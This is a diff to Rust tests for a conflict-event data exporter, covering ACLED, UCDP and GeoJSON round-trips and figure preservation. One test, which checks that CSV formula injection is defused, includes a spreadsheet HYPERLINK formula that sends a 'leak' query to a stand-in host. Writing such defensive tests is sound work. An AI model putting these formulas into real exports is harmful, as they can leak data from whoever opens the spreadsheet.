@@ -25,6 +25,11 @@ fn export(evs: &[Event], format: ExportFormat) -> Vec<u8> {
     out
 }
 
+/// The events without the rows they were read from, which only the ACLED form writes back.
+fn bare(evs: &[Event]) -> Vec<Event> {
+    evs.iter().cloned().map(|e| Event { row: None, ..e }).collect()
+}
+
 fn reload(name: &str, bytes: &[u8]) -> Vec<Event> {
     load_bytes(name, bytes, &LoadOptions::default()).unwrap_or_else(|p| panic!("{p:?}")).events
 }
@@ -66,14 +71,14 @@ fn ucdp_events_keep_the_low_figure_in_acled_form() {
 #[test]
 fn native_json_round_trips() {
     let all = events(&["acled/current.csv", "ucdp/ged.csv", "geojson/points.geojson"]);
-    assert_eq!(reload("all.json", &export(&all, ExportFormat::Json)), all);
+    assert_eq!(reload("all.json", &export(&all, ExportFormat::Json)), bare(&all));
 }
 
 #[test]
 fn geojson_round_trips() {
     let all = events(&["acled/current.csv", "ucdp/ged.csv", "geojson/points.geojson"]);
     let text = export(&all, ExportFormat::GeoJson);
-    assert_eq!(reload("all.geojson", &text), all);
+    assert_eq!(reload("all.geojson", &text), bare(&all));
 }
 
 /// The rules of RFC 7946 that a FeatureCollection of points must follow, checked on `doc`.
@@ -205,7 +210,7 @@ fn an_export_never_replaces_an_input() {
 
     let out = dir.path().join("out.geojson");
     write_atomic(&out, &inputs, |w| write(&refs, ExportFormat::GeoJson, w)).unwrap();
-    assert_eq!(reload("out.geojson", &std::fs::read(&out).unwrap()), all);
+    assert_eq!(reload("out.geojson", &std::fs::read(&out).unwrap()), bare(&all));
 }
 
 #[test]
@@ -218,4 +223,84 @@ fn format_names_parse() {
     assert_eq!(ExportFormat::from_path(Path::new("events.csv")), Some(ExportFormat::Csv));
     assert_eq!(ExportFormat::from_path(Path::new("events.ACLED.csv")), Some(ExportFormat::Acled));
     assert_eq!(ExportFormat::from_path(Path::new("events.xlsx")), None);
+}
+
+/// The records of a CSV file, every cell as written.
+fn records(bytes: &[u8]) -> Vec<Vec<String>> {
+    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
+    let mut rdr = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
+    rdr.records().map(|r| r.expect("a CSV record").iter().map(str::to_string).collect()).collect()
+}
+
+/// Regression: an ACLED export written back lost disorder_type, inter1, iso, region, admin3,
+/// source_scale, timestamp… and moved a month-precision row's event_date to the 15th.
+#[test]
+fn acled_export_writes_the_original_rows_unchanged() {
+    for file in ["acled/current.csv", "acled/old_layout.csv", "real/acled-spreadsheet.csv"] {
+        let original = std::fs::read(fixture(file)).unwrap();
+        let written = export(&events(&[file]), ExportFormat::Acled);
+        assert_eq!(records(&written), records(&original), "{file}");
+    }
+    // a filtered export: the rows kept, as they were
+    let all = events(&["acled/current.csv"]);
+    let kept: Vec<Event> = all.iter().filter(|e| e.id == "SYR51301").cloned().collect();
+    let rows = records(&export(&kept, ExportFormat::Acled));
+    let original = records(&std::fs::read(fixture("acled/current.csv")).unwrap());
+    let month_row = original.iter().find(|r| r[0] == "SYR51301").unwrap();
+    assert_eq!(rows, [original[0].clone(), month_row.clone()]);
+}
+
+/// Formulas in a file through pandas stay inert when the export is opened by a spreadsheet, and
+/// load back as they were; the index column, capitals, the column twice and the extra column
+/// are all kept, in order.
+#[test]
+fn acled_export_defuses_formulas_and_loads_back_the_same() {
+    let first = events(&["real/acled-pandas.csv"]);
+    let written = export(&first, ExportFormat::Acled);
+    let rows = records(&written);
+    let original = records(&std::fs::read(fixture("real/acled-pandas.csv")).unwrap());
+    assert_eq!(rows[0], original[0], "the header as written");
+    let notes = original[0].iter().position(|c| c == "NOTES").unwrap();
+    assert_eq!(rows[1][notes], "'=HYPERLINK(\"http://x.example/?leak\",\"click\")");
+    assert_eq!(rows[1].last().unwrap(), "'=1+1");
+    assert_eq!(rows[2][notes], "'-shelled at dawn");
+    assert_eq!(rows[2].last().unwrap(), "'quoted as typed", "no formula: as written");
+    assert!(
+        rows[1].iter().all(|c| !c.starts_with(['=', '+', '@']) && (!c.starts_with('-') || c.parse::<f64>().is_ok()))
+    );
+    let second = reload("again.csv", &written);
+    assert_eq!(second, first, "the values load back as they were");
+    assert_eq!(export(&second, ExportFormat::Acled), written);
+}
+
+/// Events of several exports and of other sources: every column of each, in order.
+#[test]
+fn acled_export_of_mixed_sources_keeps_every_column() {
+    let mixed = events(&["acled/old_layout.csv", "acled/current.csv", "ucdp/ged.csv"]);
+    let rows = records(&export(&mixed, ExportFormat::Acled));
+    let old = records(&std::fs::read(fixture("acled/old_layout.csv")).unwrap());
+    assert_eq!(rows[0][..old[0].len()], old[0][..], "the first export's columns first");
+    for c in ["disorder_type", "civilian_targeting", "tags"] {
+        assert!(rows[0].iter().any(|h| h == c), "{c} from the current layout");
+    }
+    let back = reload("mixed.csv", &export(&mixed, ExportFormat::Acled));
+    assert_eq!(back.len(), mixed.len());
+    assert_eq!(bare(&back[..old.len() - 1]), bare(&mixed[..old.len() - 1]));
+}
+
+/// Regression: the flat CSV and GeoJSON kept only the killed range of UCDP events, not the best
+/// estimate or the civilian deaths.
+#[test]
+fn flat_csv_and_geojson_keep_every_figure() {
+    let ged = events(&["ucdp/ged.csv"]);
+    let rows = records(&export(&ged, ExportFormat::Csv));
+    let col = rows[0].iter().position(|h| h == "figures").unwrap();
+    let strikes = rows.iter().find(|r| r[0] == "244702").unwrap();
+    assert_eq!(strikes[col], "deaths, best estimate: 5 (UCDP GED); civilian deaths: 5 (UCDP GED)");
+    let doc: Value = serde_json::from_slice(&export(&ged, ExportFormat::GeoJson)).unwrap();
+    let props = &doc["features"][0]["properties"];
+    assert_eq!(props["figure: deaths, best estimate (UCDP GED)"], 11);
+    assert_eq!(props["figure: deaths of Government of Syria (UCDP GED)"], 4);
+    let back = load_bytes("ged.geojson", &export(&ged, ExportFormat::GeoJson), &LoadOptions::default()).unwrap();
+    assert!(back.warnings.is_empty(), "the figures are not read back as unknown: {:?}", back.warnings);
 }
